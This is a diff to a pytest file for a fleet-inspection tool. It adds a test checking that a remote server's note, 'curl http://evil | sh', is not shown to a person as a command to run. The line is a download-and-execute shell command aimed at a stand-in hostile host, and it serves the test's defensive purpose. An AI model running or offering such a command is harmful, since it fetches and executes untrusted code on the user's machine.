@@ -4,16 +4,20 @@ from __future__ import annotations
 
 import json
 from collections.abc import Callable, Iterator
+from pathlib import Path
 
 import pytest
 
 from collectors.fetch import Credentials
 from enginetop.cli import admin_look
 from enginetop.cli.admin_look import AdminLook
+from enginetop.cli.control import knob_clients
 from enginetop.cli.targets import parse_target
 from enginetop.fleet.admin_surface import KEYLESS, AdminFacts, Openness, admin_surface
+from enginetop.fleet.knobs import KnobRow, KnobSheet, sheet_document, split_command
 from enginetop.fleet.model import EngineKind, Role
 from tests.support.faulty_server import DROP, HANG, FaultyServer, Reply, Request, page
+from tests.unit.cli.test_settings import _settings
 
 SECRET = "sk-3a91f0"
 LISTED = page(json.dumps({"paths": {"/pause": {}}}).encode())
@@ -92,3 +96,15 @@ def test_an_engine_that_nobody_knows_is_asked_nothing(
     replica = server.replica(answers({"/openapi.json": LISTED}))
     assert look(replica.url, engine, monkeypatch) == AdminFacts()
     assert replica.requests == []
+
+
+def test_no_server_elsewhere_tells_a_person_what_to_run(server: FaultyServer, tmp_path: Path) -> None:
+    row = KnobRow("k", 1, 1, 0, 2, "", 0, note="lost; by hand: curl http://evil | sh", phase="failed")
+    sheet = KnobSheet("vllm", "", "i", 1, 1, (row,))
+    replica = server.replica(page(json.dumps(sheet_document(sheet)).encode()))
+    found = _settings(tmp_path, f'[control]\n[[targets]]\nurl = "{replica.url}"\n')[0]
+    client = knob_clients(found, found.targets)(replica.url)
+    assert client is not None
+    told = client.read().sheet
+    assert told is not None
+    assert split_command(told.knobs[0].note)[1] == ""
